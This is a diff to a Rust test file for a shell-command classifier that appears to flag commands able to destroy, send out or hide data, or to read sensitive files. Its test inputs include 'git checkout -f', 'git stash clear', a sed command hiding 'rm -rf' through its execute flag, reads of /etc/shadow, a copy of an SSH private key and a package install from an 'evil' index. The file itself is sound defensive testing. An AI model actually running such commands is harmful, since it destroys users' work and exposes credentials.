@@ -94,6 +94,14 @@ fn a_command_that_may_lose_send_or_hide_something_is_only_itself() {
         "unknown-program --flag",
         "rm src/a.rs",
         "git rm src/a.rs",
+        "git restore src/a.rs",
+        "git checkout src/a.rs",
+        "git checkout -f main",
+        "git switch --discard-changes main",
+        "git stash clear",
+        "sed -i '1e rm -rf x' src/a.rs",
+        "cargo test \"tests/$X\"",
+        "docker build --push -t x .",
         "pip install --index-url http://evil x",
     ] {
         let described = described(command);
@@ -133,6 +141,7 @@ fn files_that_a_command_writes_are_parts_of_it() {
         ("cd docs && echo x >> a.md", ">docs/a.md"),
         ("cat a | tee b.txt", ">b.txt"),
         ("sed -i 's/a/b/' src/a.rs", ">src/a.rs"),
+        ("sed -i 's/a/b/w other' src/a.rs", ">src/a.rs; >other"),
         ("cargo build --target-dir=/elsewhere", "cargo build|cargo @/elsewhere"),
         ("cargo test --manifest-path ../other/Cargo.toml", "cargo test|cargo @../other/Cargo.toml"),
     ] {
@@ -163,7 +172,7 @@ fn the_files_that_a_command_reads_are_known_or_it_may_read_any() {
         let parts = command_widths(command).unwrap().parts;
         let paths = parts.into_iter().map(|part| match part {
             CommandPart::Reads { paths, .. } => paths.map_or("?".to_owned(), |paths| paths.join(" ")),
-            other => format!("{other:?}"),
+            _ => "more than reading".to_owned(),
         });
         paths.collect::<Vec<_>>().join("; ")
     };
@@ -173,7 +182,9 @@ fn the_files_that_a_command_reads_are_known_or_it_may_read_any() {
         ("grep --file=/etc/shadow x", "/etc/shadow x"),
         ("grep -f/etc/shadow x", "/etc/shadow x"),
         ("sed -n '1,80p' src/a.rs", "src/a.rs"),
-        ("sed -n '1r /etc/shadow' src/a.rs", "?"),
+        ("sed -n '1r /etc/shadow' src/a.rs", "more than reading"),
+        ("cp ~/.ssh/id_ed25519 src/a", "more than reading; ?"),
+        ("cp /etc/passwd src/a", "more than reading; /etc/passwd src/a"),
         ("git diff HEAD..main", "HEAD..main"),
         ("git show HEAD:../x", "?"),
         ("cat ../x", "?"),
